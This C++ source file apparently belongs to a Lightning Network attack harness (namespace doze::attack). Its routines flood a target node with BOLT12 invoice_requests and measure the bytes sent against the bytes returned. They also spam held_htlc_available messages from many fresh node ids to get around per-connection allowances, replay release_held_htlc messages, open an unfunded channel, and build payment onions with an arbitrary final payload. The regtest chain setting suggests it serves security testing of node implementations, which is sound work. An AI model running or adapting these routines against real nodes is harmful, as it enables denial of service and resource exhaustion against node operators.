// Onion messages of strangers, and the onion of a payment that nobody should have made.
#include <cstdio>

#include "crypto/crypto.h"
#include "offers/invoice_request.h"
#include "offers/static_invoice.h"
#include "onion/onion_message.h"
#include "onion/payment_onion.h"
#include "peer.h"
#include "wire/chains.h"
#include "wire/tlv.h"

namespace doze::attack {
namespace {

NodeId node_of(const std::string& hex) {
  auto bytes = from_hex(hex);
  auto id = bytes ? NodeId::from(*bytes) : std::nullopt;
  if (!id) throw Failed("'" + hex + "' is no node id");
  return *id;
}

/// A path for answers that begins, and ends, at `node`: different each time.
wire::BlindedPath reply_path(const NodeId& node) {
  onion::RecipientData data;
  data.path_id = to_bytes(chance().id<Hash32>().view());
  return *onion::blind(fresh_key(), {{node, onion::encode(data)}});
}

/// Where answers are to go: to the asker itself, to a node that is named, or to one that nobody knows.
NodeId introduction(const Arguments& arguments, const NodeId& own) {
  auto text = arguments.text("introduction", "");
  if (text.empty()) return own;
  return text == "none" ? crypto::public_key(fresh_key()) : node_of(text);
}

void send_over(Peer& peer, const NodeId& victim, const wire::BlindedPath& path, onion::FinalMessage message) {
  auto built = onion::build_message(fresh_key(), fresh_key(), {}, victim, path, std::move(message));
  if (!built) throw Failed("no onion message can be built");
  peer.send(*built);
}

Bytes request_for(const offers::Offer& offer) {
  offers::RequestTerms terms;
  terms.metadata = to_bytes(chance().id<Hash32>().view());
  terms.chain = wire::chain_hash(wire::Network::Regtest);
  if (!offer.amount()) terms.amount = Msat(1'000'000);
  terms.payer_key = fresh_key();
  auto request = offers::InvoiceRequest::make(offer, terms);
  if (!request) throw Failed("no invoice_request can be made");
  return request->bytes();
}

/// What an answer to us says: our own path peeled.
std::optional<onion::MessageContents> answer_in(const wire::OnionMessage& message, const PrivateKey& key) {
  auto ecdh = [&](const PublicKey& point, const Hash32* tweak) {
    return crypto::ecdh(tweak == nullptr ? key : *crypto::tweak_mul(key, tweak->view()), point);
  };
  auto peeled = onion::peel_message(message, ecdh, [](const onion::NextNode&) { return false; });
  auto* received = peeled ? std::get_if<onion::ReceivedMessage>(&*peeled) : nullptr;
  if (received == nullptr) return std::nullopt;
  return received->contents;
}

/// Anybody with the offer gets the static invoice.
offers::StaticInvoice static_invoice_for(const Target& to, const offers::Offer& offer) {
  auto key = fresh_key();
  Peer peer(to, key);
  send_over(peer, to.id, offer.paths().front(), {onion::InvoiceRequest{request_for(offer)}, reply_path(peer.id())});
  auto message = peer.wait_for<wire::OnionMessage>(10);
  auto contents = message ? answer_in(*message, key) : std::nullopt;
  auto* answer = contents ? std::get_if<onion::StaticInvoice>(&*contents) : nullptr;
  auto invoice = answer != nullptr ? offers::StaticInvoice::parse(answer->bytes) : fail(ParseError{});
  if (!invoice) throw Failed("no static invoice came");
  return *std::move(invoice);
}

}  // namespace

offers::Offer offer_in(const Arguments& arguments) {
  auto offer = offers::Offer::parse(arguments.text("offer"));
  if (!offer || offer->paths().empty()) throw Failed("not an offer with a path");
  return *std::move(offer);
}

void send_request(Peer& peer, const NodeId& victim, const offers::Offer& offer) {
  send_over(peer, victim, offer.paths().front(),
            {onion::InvoiceRequest{request_for(offer)}, reply_path(crypto::public_key(fresh_key()))});
}

/// invoice_requests for one offer, as many as the allowance takes, and how many bytes come back for how many sent.
Numbers requests(const Arguments& arguments) {
  auto to = Target::parse(arguments.text("to"));
  auto offer = offer_in(arguments);
  Peer peer(to);
  Numbers out;
  if (arguments.number("unfunded", 0) != 0) out["unfunded"] = open_for_nothing(peer, true) == 2 ? 1 : 0;
  auto sent = peer.sent, received = peer.received;
  auto began = seconds_now();
  for (auto left = arguments.number("count", 96); left > 0 && peer.open(); --left, ++out["requests"])
    send_over(peer, to.id, offer.paths().front(),
              {onion::InvoiceRequest{request_for(offer)}, reply_path(introduction(arguments, peer.id()))});
  for (auto end = seconds_now() + static_cast<double>(arguments.number("listen", 5)); seconds_now() < end;)
    if (!peer.wait_for<wire::OnionMessage>(1)) {
      if (out["answers"] == out["requests"] || !peer.open()) break;
    } else {
      ++out["answers"];
    }
  out["sent"] = peer.sent - sent;
  out["received"] = peer.received - received;
  out["ms"] = static_cast<std::uint64_t>((seconds_now() - began) * 1000);
  return out;
}

/// held_htlc_available for a recipient, though nothing is held: `each` from so many fresh ids, each with a reply path
/// of its own.
Numbers announcements(const Arguments& arguments) {
  auto to = Target::parse(arguments.text("to"));
  auto invoice = static_invoice_for(to, offer_in(arguments));
  auto path = invoice.message_paths().front();
  Numbers out{{"taken", 0}, {"answers", 0}};
  for (auto ids = arguments.number("ids", 1); ids > 0; --ids) {
    try {
      Peer peer(to);
      for (auto left = arguments.number("each", 1); left > 0 && peer.open(); --left)
        send_over(peer, to.id, path,
                  {onion::HeldHtlcAvailable{invoice.profile()}, reply_path(introduction(arguments, peer.id()))});
      out["taken"] += peer.handled(10) ? 1 : 0;
      if (auto listen = arguments.number("listen", 0))
        out["answers"] += peer.wait_for<wire::OnionMessage>(listen) ? 1 : 0;
    } catch (const Failed&) {
      if (++out["refused"] > 20) break;
    }
  }
  return out;
}

/// release_held_htlc over the paths in these revoke_and_acks, which the script has seen.
Numbers releases(const Arguments& arguments) {
  constexpr std::size_t kPerConnection = 90;  // the allowance of one id
  auto to = Target::parse(arguments.text("to"));
  std::vector<wire::ReleasePath> paths;
  auto text = arguments.text("promises");
  for (std::size_t at = 0; at < text.size(); at = text.find(',', at) + 1) {
    auto bytes = from_hex(text.substr(at, text.find(',', at) - at));
    auto message = bytes ? wire::decode(*bytes) : fail(ParseError{});
    auto* revoke = message ? std::get_if<wire::RevokeAndAck>(&*message) : nullptr;
    if (revoke == nullptr) throw Failed("promises=… are no revoke_and_acks");
    paths.insert(paths.end(), revoke->release_paths.begin(), revoke->release_paths.end());
    if (text.find(',', at) == std::string::npos) break;
  }
  Numbers out{{"sent", 0}};
  for (std::size_t at = 0; at < paths.size();) {
    Peer peer(to);
    for (std::size_t i = 0; i < kPerConnection && at < paths.size(); ++i, ++at, ++out["sent"])
      send_over(peer, to.id, paths[at].path, {onion::ReleaseHeldHtlc{paths[at].profile}, std::nullopt});
    out["handled"] += peer.handled(30) ? 1 : 0;
  }
  return out;
}

/// A payment onion over two nodes, whose last payload is whatever the attacker likes.
Numbers onion(const Arguments& arguments) {
  auto hash = from_hex(arguments.text("hash"));
  auto last = from_hex(arguments.text("payload"));
  if (!hash || !last) throw Failed("hash and payload are hex");
  onion::ForwardPayload forward{Msat(arguments.number("amount", 0)),
                                CltvExpiry(static_cast<std::uint32_t>(arguments.number("expiry", 0))),
                                ShortChannelId(arguments.number("scid", 0))};
  auto packet = onion::build_packet(fresh_key(),
                                    {{node_of(arguments.text("first")), onion::with_length(onion::encode(forward))},
                                     {node_of(arguments.text("last")), *last}},
                                    *hash, onion::kPaymentPayloads);
  if (!packet) throw Failed("no onion can be built");
  std::printf("%s\n", to_hex(*packet).c_str());
  return {};
}

}  // namespace doze::attack
